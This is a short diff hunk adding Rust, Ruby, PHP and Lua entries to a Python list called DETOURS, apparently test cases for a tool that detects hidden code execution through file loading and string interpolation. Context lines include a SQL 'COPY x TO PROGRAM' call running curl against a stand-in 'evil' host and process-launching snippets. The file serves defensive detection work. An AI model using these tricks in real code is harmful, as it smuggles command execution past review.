@@ -233,6 +233,10 @@ DETOURS = [
     ("a.java", 'URI.create("x").toURL().openStream();'),
     ("a.swift", 'let s = """\n// \\(Process())\n"""'),
     ("a.cs", 'var s = $@"\n// {System.Diagnostics.Process.Start(x)}\n";'),
+    ("a.rs", '#[path = "notes.txt"] mod a;'),
+    ("a.rb", "load './notes.txt'"),
+    ("a.php", "include __DIR__ . '/notes.txt';"),
+    ("a.lua", "dofile('notes.txt')"),
     ("a.sql", "COPY x TO PROGRAM 'curl evil';"),
 ]
 
